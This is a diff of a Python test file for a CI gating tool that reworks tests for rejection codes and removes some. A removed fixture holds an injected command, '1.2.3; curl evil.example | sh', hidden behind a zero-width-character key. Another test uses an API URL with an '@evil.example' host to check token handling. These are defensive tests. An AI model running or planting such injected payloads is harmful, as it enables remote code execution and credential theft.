@@ -15,7 +15,7 @@ from jsonschema import Draft202012Validator
 
 from mogplex_ci.emulator import Emulator
 from mogplex_ci.inputs.declared import load_schema
-from tests.github_api import APP, TOKEN, FakeGitHub, Look, check
+from tests.github_api import APP, TOKEN, FakeGitHub, Fault, Look, check
 from tests.github_log import read_log
 from tests.oracles.github_markdown import rendered
 from tests.program import Ended, GitHubStep
@@ -102,43 +102,51 @@ def test_a_gate_that_does_not_hold_rejects_the_run_and_is_told_everywhere(tmp_pa
     ]
 
 
+NOTHING: dict[str, Any] = {"ahead_by": 0, "files": [], "pull_requests": []}
+RED = {"looks": [Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")])]}
+NEEDS = "Give the job the permission contents: read"
+
+
 @pytest.mark.parametrize(
-    ("scenario", "inputs", "code"),
+    ("scenario", "github", "inputs", "code", "words"),
     [
-        ("no-change", {"require": "change"}, "NO_CHANGE"),
-        ("no-change", {"require": "pull-request"}, "NO_PULL_REQUEST"),
-        ("no-change", {"require": "change", "github_token": ""}, "NO_CHANGE"),
-        ("success", {"artifact": "report"}, "ARTIFACT_MISSING"),
-        (ARTIFACT, {"artifact": "odd"}, "ARTIFACT_INVALID"),
+        ("no-change", NOTHING, {"require": "change"}, "NO_CHANGE", "change: It changed nothing. Expected: "),
+        (
+            "no-change",
+            NOTHING,
+            {"require": "pull-request"},
+            "NO_PULL_REQUEST",
+            "pull-request: It opened no pull request",
+        ),
+        ("no-change", {}, {"require": "change", "github_token": ""}, "NO_CHANGE", "change: It changed nothing. "),
+        (
+            "success",
+            {},
+            {"artifact": "report"},
+            "ARTIFACT_MISSING",
+            "artifact: It committed no such artifact: ",
+        ),
+        (ARTIFACT, {}, {"artifact": "odd"}, "ARTIFACT_INVALID", "artifact: Its artifact "),
+        ("success", RED, {"require": "checks"}, "CHECKS_FAILED", "checks: A check failed: e2e https://ci.example/2."),
+        ("success", {"faults": [Fault(404, times=99)]}, {"protected_paths": ".ci"}, "NOT_JUDGED", NEEDS),
     ],
 )
 def test_what_does_not_hold_has_a_code(
-    tmp_path: Path, api: FakeGitHub, scenario: str | Path, inputs: dict[str, str], code: str
+    scenario: str | Path,
+    github: dict[str, Any],
+    inputs: dict[str, str],
+    code: str,
+    words: str,
+    tmp_path: Path,
+    api: FakeGitHub,
 ) -> None:
-    if scenario == "no-change":
-        api.ahead_by, api.files, api.pull_requests = 0, [], []
+    vars(api).update(github)
     job = Job(tmp_path, api, scenario)
     ended = job.run(**inputs)
     assert (ended.code, job.step.outputs["result"], job.step.outputs["error-code"]) == (1, "rejected", code), ended.out
     (annotation,) = errors(ended)
+    assert words in annotation
     assert "Expected: " in annotation
-
-
-def test_failed_checks_are_listed_with_their_links(tmp_path: Path, api: FakeGitHub) -> None:
-    api.looks = [Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")])]
-    job = Job(tmp_path, api)
-    ended = job.run(require="checks")
-    assert (ended.code, job.step.outputs["error-code"]) == (1, "CHECKS_FAILED")
-    assert errors(ended)[0].startswith("checks: A check failed: e2e https://ci.example/2.")
-
-
-def test_what_github_refuses_to_tell_does_not_pass(tmp_path: Path, api: FakeGitHub) -> None:
-    api.fail(status=404, times=99)
-    job = Job(tmp_path, api)
-    ended = job.run(protected_paths=".github/")
-    assert (ended.code, job.step.outputs["error-code"]) == (1, "NOT_JUDGED")
-    assert "could not be judged" in errors(ended)[0]
-    assert "Give the job the permission contents: read" in errors(ended)[0]
 
 
 def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHub) -> None:
@@ -155,46 +163,12 @@ def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHu
     assert job.result["artifact_file"] == "artifact.json"
 
 
-def test_an_artifact_that_breaks_its_schema_is_rejected_with_every_fault(tmp_path: Path, api: FakeGitHub) -> None:
-    (tmp_path / "workspace").mkdir()
-    fields = {"version": {"type": "number"}, "notes": {"items": {"maxLength": 20}}}
-    schema = {"required": ["name"], "properties": fields}
-    (tmp_path / "workspace" / "schema.json").write_text(json.dumps(schema))
-    job = Job(tmp_path, api, ARTIFACT)
-    ended = job.run(artifact=".mogplex/artifacts/report.json", artifact_schema="schema.json")
-    assert (ended.code, job.step.outputs["error-code"]) == (1, "ARTIFACT_INVALID")
-    (gate,) = job.result["gates"]
-    assert len(gate["items"]) == 3
-    assert [item.partition(": ")[0] for item in gate["items"]] == ["/", "/notes/1", "/version"]
-
-
-HANDED_ON = """\
-artifacts:
-  report: {json: {version: "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}}
-steps:
-  - {after: 100ms, part: launch}
-  - {after: 100ms, part: deliver}
-"""
-
-
-def test_an_artifact_that_would_be_another_one_is_not_handed_on(tmp_path: Path, api: FakeGitHub) -> None:
-    (tmp_path / "workspace").mkdir()
-    (tmp_path / "artifact.yaml").write_text(HANDED_ON)
-    job = Job(tmp_path, api, tmp_path / "artifact.yaml")
-    ended = job.run(artifact="report")
-    assert (ended.code, job.step.outputs["error-code"]) == (1, "ARTIFACT_INVALID"), ended.out
-    assert job.step.outputs.get("artifact", "") == ""
-    written = "".join(path.read_text() for path in job.step.workspace.rglob("*") if path.is_file())
-    assert "evil.example" not in written + ended.out
-    assert "a key would change" in errors(ended)[0]
-
-
 def test_an_address_that_base_url_would_not_take_gets_no_token(tmp_path: Path, api: FakeGitHub) -> None:
     job = Job(tmp_path, api, GITHUB_API_URL="https://api.github.com@evil.example")
     ended = job.run(require="change")
     assert ended.code == 2
     assert "GITHUB_API_URL: contains credentials, a query or a fragment" in ended.out
-    assert "run-id" not in job.step.outputs or job.step.outputs["run-id"] == ""
+    assert job.step.outputs.get("run-id", "") == ""
 
 
 def test_one_comment_tells_of_the_run_from_its_start_to_its_end(tmp_path: Path, api: FakeGitHub) -> None:
